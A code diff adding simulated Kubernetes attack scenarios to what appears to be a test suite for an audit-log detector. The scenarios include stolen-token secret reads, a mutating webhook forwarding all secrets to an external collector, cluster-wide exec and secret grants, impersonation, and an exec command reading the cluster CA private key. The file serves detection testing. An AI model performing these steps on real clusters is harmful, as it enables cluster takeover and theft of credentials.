@@ -1,6 +1,6 @@
 """The attack that stands in the same log, two hours after what is ordinary: each must still be found, at medium at least.
 An attack gives the name by which a finding must know its actor."""
-from cluster import after, at, binding, pod_spec
+from cluster import after, at, binding, pod_spec, role
 
 ALL = []
 T = at(13)
@@ -120,4 +120,73 @@ def certificate_for_the_masters(c):
     who = c.devs[-1].but(grant="")
     c.do(T, who, "create", "certificatesigningrequests", name="me", body={"spec": {"signerName": "kubernetes.io/kube-apiserver-client", "groups": ["system:masters"]}})
     c.do(after(T, 5), who, "update", "certificatesigningrequests", name="me", sub="approval")
+    return who.name
+
+
+@attack
+def token_of_the_monitoring_is_used_elsewhere(c):
+    who = c.prometheus.but(ip="203.0.113.44", agent="kubectl/v1.30.0 (linux/amd64) kubernetes/aaaaaaa")
+    c.do(T, who, "list", "secrets")
+    c.do(after(T, 3), who, "get", "secrets", "kube-system", "bootstrap-token-abcdef")
+    return who.name
+
+
+@attack
+def webhook_sends_every_secret_outside(c):
+    who = c.admins[1].but(ip="198.51.100.66")
+    c.do(T, who, "create", "mutatingwebhookconfigurations", name="metrics", body={"webhooks": [{
+        "name": "m.example", "failurePolicy": "Ignore", "clientConfig": {"url": "https://collector.example/x"},
+        "rules": [{"apiGroups": [""], "resources": ["secrets"], "operations": ["*"]}]}]})
+    return who.name
+
+
+@attack
+def commands_for_everybody(c):
+    c.do(T, c.deployer, "create", "clusterroles", name="help", body=role("ClusterRole", "help", [{"apiGroups": [""], "resources": ["pods/exec"], "verbs": ["create"]}]))
+    c.do(after(T, 2), c.deployer, "create", "clusterrolebindings", name="help", body=binding("ClusterRoleBinding", "help", "help", [{"kind": "Group", "name": "system:authenticated"}]))
+    return c.deployer.name
+
+
+@attack
+def developer_asks_and_then_acts_as_another(c):
+    who = c.devs[-1]
+    other = {"username": "system:serviceaccount:kube-system:generic-garbage-collector", "groups": ["system:serviceaccounts", "system:authenticated"]}
+    for i in range(5):
+        c.do(after(T, i), who, "create", "selfsubjectrulesreviews", code=201, acts_as=other)
+    c.do(after(T, 9), who, "list", "secrets", acts_as=other, reason="")
+    return who.name
+
+
+@attack
+def login_of_an_admin_reads_the_releases_from_abroad(c):
+    who = c.admins[0].but(ip="198.18.9.9", agent="Helm/3.15.0")
+    c.do(T, who, "list", "secrets", query="labelSelector=owner%3Dhelm")
+    c.do(after(T, 4), who, "list", "secrets", query="labelSelector=owner%21%3Dhelm")
+    return who.name
+
+
+@attack
+def role_of_everyone_grows(c):
+    who = c.admins[1].but(ip="203.0.113.80")
+    little = [{"apiGroups": ["vms.example"], "resources": ["machines"], "verbs": ["get"]}]
+    c.do(T, who, "create", "clusterroles", name="vms:view", body=role("ClusterRole", "vms:view", little))
+    c.do(after(T, 1), who, "create", "clusterrolebindings", name="vms:view", body=binding("ClusterRoleBinding", "vms:view", "vms:view", [{"kind": "Group", "name": "system:authenticated"}]))
+    c.do(after(T, 9), who, "update", "clusterroles", name="vms:view", body=role("ClusterRole", "vms:view", little + [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get", "list"]}]))
+    return who.name
+
+
+@attack
+def account_of_an_operator_leaves_its_work(c):
+    who = c.certs
+    c.do(T, who, "create", "serviceaccounts", "kube-system", "clusterrole-aggregation-controller", "token")
+    c.do(after(T, 1), who, "create", "pods", "kube-system", "etcd-cp1", "exec", query="command=sh&command=-c&command=cat+%2Fetc%2Fkubernetes%2Fpki%2Fca.key")
+    return who.name
+
+
+@attack
+def certificate_of_a_node_is_used_from_a_pod(c):
+    who = c.kubelets[0].but(ip="10.244.8.88", agent="kubectl/v1.30.0 (linux/amd64) kubernetes/aaaaaaa")
+    for i in range(4):
+        c.do(after(T, i), who, "get", "secrets", c.namespaces[i % 2], ["db", "registry", "app-config", "tls"][i])
+    c.do(after(T, 6), who, "create", "serviceaccounts", "kube-system", "default", "token")
     return who.name
